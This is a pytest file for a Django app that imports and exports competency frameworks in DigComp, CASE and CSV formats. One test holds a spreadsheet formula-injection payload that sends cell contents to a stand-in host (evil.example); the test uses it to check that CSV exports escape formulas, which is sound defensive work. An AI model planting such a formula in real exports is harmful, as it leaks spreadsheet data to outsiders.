import csv
import json
from io import StringIO
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.db import IntegrityError, transaction
from django.urls import reverse

from competencies.demo import DIGCOMP_FILE
from competencies.formats import FormatProblem
from competencies.models import (
    Competency,
    CompetencyStatement,
    Framework,
    ImportJob,
    ProficiencyLevel,
    ProficiencyScale,
)
from competencies.rules import MAX_RANK
from competencies.services import framework_import_file, import_job_create
from tests.conftest import log_in


def _import(content: bytes, name="file.jsonld", **kwargs):
    return framework_import_file(name=name, content=content, **kwargs)


def test_digcomp_import_gives_21_competences_8_levels_in_4_bands(db):
    result = _import(DIGCOMP_FILE.read_bytes(), name=DIGCOMP_FILE.name)
    framework = result.framework
    comps = Competency.objects.filter(framework=framework)
    assert comps.filter(kind="competency").count() == 21
    assert comps.filter(kind="area").count() == 5
    assert comps.get(code="1.2").parent.code == "1"
    levels = ProficiencyLevel.objects.filter(scale=framework.scale)
    assert list(levels.values_list("rank", flat=True)) == list(range(1, 9))
    assert set(levels.values_list("band", flat=True)) == {
        "Basic",
        "Intermediate",
        "Advanced",
        "Highly advanced",
    }
    statements = CompetencyStatement.objects.filter(competency__framework=framework)
    assert statements.filter(kind="statement").count() == 362
    assert statements.filter(kind="outcome").count() == 523


def test_digcomp_reimport_changes_nothing(db):
    _import(DIGCOMP_FILE.read_bytes())
    counts = (Competency.objects.count(), CompetencyStatement.objects.count())
    result = _import(DIGCOMP_FILE.read_bytes())
    assert not result.changed, result.summary()
    assert (Competency.objects.count(), CompetencyStatement.objects.count()) == counts


def test_digcomp_newer_version_updates_by_identifier(db):
    _import(DIGCOMP_FILE.read_bytes())
    data = json.loads(DIGCOMP_FILE.read_bytes())
    for obj in data["@graph"]:
        if obj.get("@id") == "Competence/1.2":
            obj["name"] = "Evaluating information and its sources"
    data["@graph"] = [o for o in data["@graph"] if o.get("@id") != "LearningOutcome/LO1.1.01"]
    result = _import(json.dumps(data).encode())
    assert result.updated["competencies"] == 1
    assert result.removed["statements"] == 1
    assert Framework.objects.count() == 1
    assert Competency.objects.get(code="1.2").name == "Evaluating information and its sources"
    assert Competency.objects.filter(kind="competency").count() == 21


def test_broken_digcomp_reports_location_and_imports_nothing(db):
    data = json.loads(DIGCOMP_FILE.read_bytes())
    index = next(i for i, o in enumerate(data["@graph"]) if o.get("@id") == "Competence/2.3")
    data["@graph"][index]["competence_area_id"] = "CompetenceArea/9"
    with pytest.raises(FormatProblem) as info:
        _import(json.dumps(data).encode())
    assert f"@graph[{index}]" in info.value.location
    assert "CompetenceArea/9" in str(info.value)
    assert not Framework.objects.exists() and not Competency.objects.exists()


def test_invalid_json_reports_line_and_column(db):
    with pytest.raises(FormatProblem) as info:
        _import(b'{"@graph": [\n {"@type": "Competence",,}]}')
    assert info.value.location == "line 2, column 25"


CASE_FILE = Path(__file__).parent / "files" / "case-datenkompetenz.json"


def test_case_package_imports_tree_scale_and_rubric_statements(db):
    result = _import(CASE_FILE.read_bytes(), name=CASE_FILE.name)
    framework = result.framework
    assert framework.title == "Datenkompetenz im öffentlichen Dienst"
    assert framework.uri.endswith("9b7c1e52-3f0a-4c1e-9d1b-2a6f0c1d7e01")
    comps = {c.code: c for c in Competency.objects.filter(framework=framework)}
    assert {c for c, comp in comps.items() if comp.kind == "area"} == {"D", "E"}
    assert comps["D.1"].parent == comps["D"] and comps["E.1"].parent == comps["E"]
    assert comps["D.1"].uri.startswith("https://frameworks.example.org/case/v1p0/CFItems/")
    levels = list(framework.scale.levels.values_list("rank", "name"))
    assert levels == [(1, "Einstieg"), (2, "Anwendung"), (3, "Expertise")]
    statement = comps["D.1"].statements.get(level__rank=2)
    assert "selbstständig" in statement.text
    assert not _import(CASE_FILE.read_bytes(), name=CASE_FILE.name).changed


def test_case_newer_version_updates_without_duplicates(db):
    _import(CASE_FILE.read_bytes())
    data = json.loads(CASE_FILE.read_bytes())
    data["CFDocument"]["version"] = "1.1"
    data["CFItems"][2]["abbreviatedStatement"] = "Kennzahlen kritisch interpretieren"
    result = _import(json.dumps(data).encode())
    assert result.updated["competencies"] == 1 and result.updated["frameworks"] == 1
    assert Framework.objects.count() == 1 and Competency.objects.count() == 5
    assert Framework.objects.get().version == "1.1"


def test_broken_case_package_names_the_association(db):
    data = json.loads(CASE_FILE.read_bytes())
    data["CFAssociations"][2]["destinationNodeURI"] = {"identifier": "nope", "uri": "urn:x"}
    with pytest.raises(FormatProblem) as info:
        _import(json.dumps(data).encode())
    assert info.value.location == "$.CFAssociations[2].destinationNodeURI"
    assert not Framework.objects.exists()


def test_csv_round_trip_and_broken_csv_line(frameworks, tmp_path):
    out = tmp_path / "qd.csv"
    call_command("export_framework", "qd", "--format", "csv", "-o", str(out))
    text = out.read_text(encoding="utf-8")
    assert text.startswith("type;id;parent;rank;band;name;description;uri;version\n")
    before = (Competency.objects.count(), CompetencyStatement.objects.count())
    result = _import(out.read_bytes(), name="qd.csv")
    assert not result.changed and result.framework.key == "qd"
    assert (Competency.objects.count(), CompetencyStatement.objects.count()) == before
    broken = text.replace("competency;QD.3;QD;", "competency;QD.3;QX;", 1)
    with pytest.raises(FormatProblem) as info:
        _import(broken.encode(), name="qd.csv")
    assert "QX" in str(info.value)
    bad_rank = text.replace("level;2;;2;", "level;2;;zwei;", 1)
    assert bad_rank != text
    with pytest.raises(FormatProblem) as info:
        _import(bad_rank.encode(), name="qd.csv")
    assert info.value.location.startswith("line ") and "column 'rank'" in info.value.location


def test_csv_export_quotes_formula_names_and_reimports_them_unchanged(framework, tmp_path):
    formula = '=HYPERLINK("https://evil.example/?"&A1;"Details")'
    Competency.objects.filter(code="QD.1").update(name=formula, description="-2+3")
    Competency.objects.filter(code="QD.2").update(name="'zitiert", description="@SUM(1)")
    out = tmp_path / "qd.csv"
    call_command("export_framework", "qd", "--format", "csv", "-o", str(out))

    rows = list(csv.reader(StringIO(out.read_text(encoding="utf-8")), delimiter=";"))

    cells = [cell for row in rows for cell in row]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    written = {row[1]: row[5:7] for row in rows}
    assert written["QD.1"] == ["'" + formula, "'-2+3"]
    assert written["QD.2"] == ["''zitiert", "'@SUM(1)"]
    _import(out.read_bytes(), name="qd.csv")
    imported = {c.code: (c.name, c.description) for c in Competency.objects.all()}
    assert imported == {"QD.1": (formula, "-2+3"), "QD.2": ("'zitiert", "@SUM(1)")}


def test_case_export_reimports_as_the_same_framework(frameworks, tmp_path):
    out = tmp_path / "qd.json"
    call_command("export_framework", "qd", "--format", "case", "-o", str(out))
    package = json.loads(out.read_text(encoding="utf-8"))
    assert {a["associationType"] for a in package["CFAssociations"]} == {"isChildOf"}
    assert len(package["CFItems"]) == 9
    result = _import(out.read_bytes(), name="qd.json", key="qd-case")
    comps = Competency.objects.filter(framework=result.framework)
    assert comps.filter(kind="competency").count() == 8
    assert comps.get(code="QD.2").parent.code == "QD"


def test_import_command_reports_problem_and_imports_nothing(db, tmp_path):
    broken = tmp_path / "broken.json"
    broken.write_text('{"CFDocument": {"title": "x"}}', encoding="utf-8")
    with pytest.raises(CommandError) as info:
        call_command("import_framework", str(broken))
    assert "$.CFDocument: 'uri' is missing" in str(info.value)
    assert not Framework.objects.exists()
    out = StringIO()
    call_command("import_framework", str(DIGCOMP_FILE), "--key", "digcomp", stdout=out)
    call_command("import_framework", str(DIGCOMP_FILE), "--key", "digcomp", stdout=out)
    assert out.getvalue().strip().endswith("no changes")


def test_background_import_reports_progress(db, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        job = import_job_create(
            user=None, file_name=DIGCOMP_FILE.name, content=DIGCOMP_FILE.read_bytes()
        )
    job.refresh_from_db()
    assert (job.status, job.progress) == ("done", 100)
    assert Competency.objects.filter(kind="competency").count() == 21


def test_admin_upload_imports_in_the_background(
    client, make_user, django_capture_on_commit_callbacks
):
    admin = make_user(groups=("Learner", "Administrator"))
    log_in(client, admin)
    url = reverse("competencies_admin:framework_import")
    assert client.get(url).status_code == 200
    upload = SimpleUploadedFile("case.json", CASE_FILE.read_bytes(), "application/json")
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(url, {"file": upload, "key": "datenkompetenz"})
    job = ImportJob.objects.get()
    assert response.url == reverse("competencies_admin:import_status", args=[job.pk])
    job.refresh_from_db()
    assert job.status == "done", job.message
    assert Framework.objects.get().key == "datenkompetenz"
    assert client.get(response.url).status_code == 200


def test_admin_upload_is_for_administrators_only(client, make_user):
    log_in(client, make_user(groups=("Learner", "Trainer")))
    response = client.get(reverse("competencies_admin:framework_import"))
    assert response.status_code in (302, 403)


def _csv_scale(ranks) -> bytes:
    rows = [
        "type,id,parent,rank,band,name,description,uri,version",
        "framework,gross,,,,Großer Rahmen,,,1",
        "scale,gross-stufen,,,,Stufen,,,",
        *[f"level,{rank},,{rank},,Stufe {rank},,," for rank in ranks],
        "competency,G.1,,,,Kompetenz,,,",
    ]
    return "\n".join(rows).encode()


def test_csv_scale_of_twenty_levels_imports(db):
    framework = _import(_csv_scale(range(1, MAX_RANK + 1)), name="gross.csv").framework
    assert list(framework.scale.levels.values_list("rank", flat=True)) == list(range(1, 21))


@pytest.mark.parametrize(
    ("ranks", "line"),
    [(range(1, MAX_RANK + 2), 4 + MAX_RANK), ([1, 2, 0], 6), ([1, 2, 40000], 6)],
)
def test_csv_rank_outside_the_bound_names_its_line_and_imports_nothing(db, ranks, line):
    with pytest.raises(FormatProblem) as info:
        _import(_csv_scale(ranks), name="gross.csv")
    assert info.value.location == f"line {line}, column 'rank'"
    assert "outside 1..20" in info.value.message
    assert not Framework.objects.exists() and not ProficiencyLevel.objects.exists()


def test_digcomp_level_outside_the_bound_is_refused(db):
    data = json.loads(DIGCOMP_FILE.read_bytes())
    index = next(i for i, o in enumerate(data["@graph"]) if o.get("@type") == "ProficiencyLevel")
    data["@graph"][index]["eight_levels_mapping"] = 21
    with pytest.raises(FormatProblem) as info:
        _import(json.dumps(data).encode())
    assert f"@graph[{index}]" in info.value.location
    assert not Framework.objects.exists()


def test_case_rubric_with_more_levels_than_the_bound_is_refused(db):
    data = json.loads(CASE_FILE.read_bytes())
    criterion = data["CFRubrics"][0]["CFRubricCriteria"][0]
    template = criterion["CFRubricCriterionLevels"][0]
    criterion["CFRubricCriterionLevels"] = [
        {**template, "identifier": f"level-{n}", "position": n, "quality": f"Stufe {n}"}
        for n in range(1, MAX_RANK + 2)
    ]
    with pytest.raises(FormatProblem) as info:
        _import(json.dumps(data).encode())
    assert info.value.location.endswith(f"CFRubricCriterionLevels[{MAX_RANK}]")
    assert not Framework.objects.exists()


@pytest.mark.parametrize("rank", [0, MAX_RANK + 1])
def test_the_database_refuses_ranks_outside_the_bound(db, rank):
    scale = ProficiencyScale.objects.create(key="s", uri="urn:test:s", name="S")
    with pytest.raises(IntegrityError), transaction.atomic():
        ProficiencyLevel.objects.create(scale=scale, rank=rank, code="x", name="x", uri="urn:x")
